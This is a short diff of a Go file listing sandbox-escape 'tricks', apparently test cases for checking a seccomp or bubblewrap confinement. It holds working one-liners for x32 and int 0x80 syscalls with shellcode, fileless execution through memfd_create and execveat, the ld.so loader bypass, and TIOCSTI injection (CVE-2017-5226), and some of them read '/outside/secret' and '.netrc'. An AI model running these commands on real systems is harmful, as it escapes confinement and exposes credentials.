@@ -16,7 +16,7 @@ var kernel = []Trick{
 	{"python3 -c \"import ctypes; l=ctypes.CDLL(None); print([l.syscall(0x40000000|n,0,0,0) for n in (39,41,101,272,520)])\"", "x32: other numbers for the same calls"},
 	{"python3 -c \"import ctypes,mmap; m=mmap.mmap(-1,4096,prot=7); m.write(bytes.fromhex('b81400000053cd805bc3')); f=ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m))); print(f())\"", "int 0x80: calls in the 32-bit format pass a filter that knows one architecture"},
 	{"python3 -c \"import ctypes; l=ctypes.CDLL(None); print([l.syscall(n,0,0,0,0,0,0) for n in range(463,500)])\"", "calls that are newer than the filter, such as file_setattr"},
-	{"python3 -c \"import os; f=os.memfd_create('x'); os.write(f,open('/bin/cat','rb').read()); os.execve(f,['cat','/outside/secret','/home/u/.netrc'],{})\"", "man memfd_create: a program that is no file"},
+	{"python3 -c \"import os; f=os.memfd_create('x'); os.write(f,open('/bin/cat','rb').read()); os.execve(f,['cat','/outside/secret','/home/u/.netrc'],{})\"", "man memfd_create: a program that is not a file"},
 	{"python3 -c \"import ctypes,os; l=ctypes.CDLL(None); f=os.open('/bin/cat',0x200000); l.execveat(f,b'',(ctypes.c_char_p*3)(b'cat',b'/outside/secret',None),None,0x1000)\"", "man execveat"},
 	{"/lib64/ld-linux-x86-64.so.2 /bin/cat /outside/secret; cp /bin/cat c; ./c /home/u/.netrc; perl -e 'exec {\"/bin/cat\"} \"x\", \"/outside/secret\"'", "GTFOBins ld.so"},
 	{"python3 -c \"import fcntl,termios; [fcntl.ioctl(0,termios.TIOCSTI,c.encode()) for c in 'touch /outside/pwned']\"", "CVE-2017-5226, bubblewrap: TIOCSTI types into the terminal"},
